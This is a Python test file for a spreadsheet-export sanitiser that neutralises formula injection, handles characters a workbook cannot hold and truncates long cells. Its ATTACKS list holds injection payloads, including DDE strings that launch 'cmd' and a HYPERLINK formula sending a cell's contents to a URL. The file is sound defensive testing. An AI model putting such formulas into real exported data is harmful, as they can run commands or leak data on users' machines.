"""Spreadsheet cells that spreadsheets cannot run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from threads.exports import cells

ATTACKS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,2)",
    "|x",
    "%1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=cmd|'/c calc'!A0",
    "\x00=1",
    "\ud800=1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b\u200b=1+1",
    "\u3000=1+1",
    "\u2028=1",
    "\x7f=1",
    "\x1b=1",
    "＝1+1",
    "－1",
    "−1",
    '=HYPERLINK("https://example.org/?"&A1)',
    "'=1+1",
    "''=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_puts_an_apostrophe_before_whatever_could_be_a_formula(attack: str) -> None:
    cell = cells.safe_text(attack)

    assert cell.startswith("'")
    assert cells.original_text(cell) == cells.clean(attack)


@pytest.mark.parametrize(
    "text", ["refund", "a=b", "1+1", "'quoted'", "", "退款", "<>1", "（=", "🙂"]
)
def test_it_leaves_other_text_as_it_is(text: str) -> None:
    assert cells.safe_text(text) == text
    assert cells.original_text(text) == text


def test_it_replaces_what_a_workbook_cannot_hold() -> None:
    cell = cells.safe_text("a\x00b\x1fc\ud800d\ufffee\r\nf\rg")

    assert cell == "a\ufffdb\ufffdc\ufffdd\ufffde\nf\ng"


def test_it_cuts_by_utf16_units_and_never_inside_a_character() -> None:
    cell = cells.safe_text("🙂" * 20_000)

    assert len(cell.encode("utf-16-le")) // 2 <= cells.MAX_UTF16_UNITS
    assert cell.endswith(cells.CUT_NOTE)
    assert set(cell.removesuffix(cells.CUT_NOTE)) == {"🙂"}


def test_it_keeps_text_that_just_fits() -> None:
    text = "a" * cells.MAX_UTF16_UNITS

    assert cells.safe_text(text) == text


@given(st.text(alphabet=st.characters(), max_size=60))
def test_it_gives_back_what_went_in(text: str) -> None:
    cell = cells.safe_text(text)

    assert cells.original_text(cell) == cells.clean(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
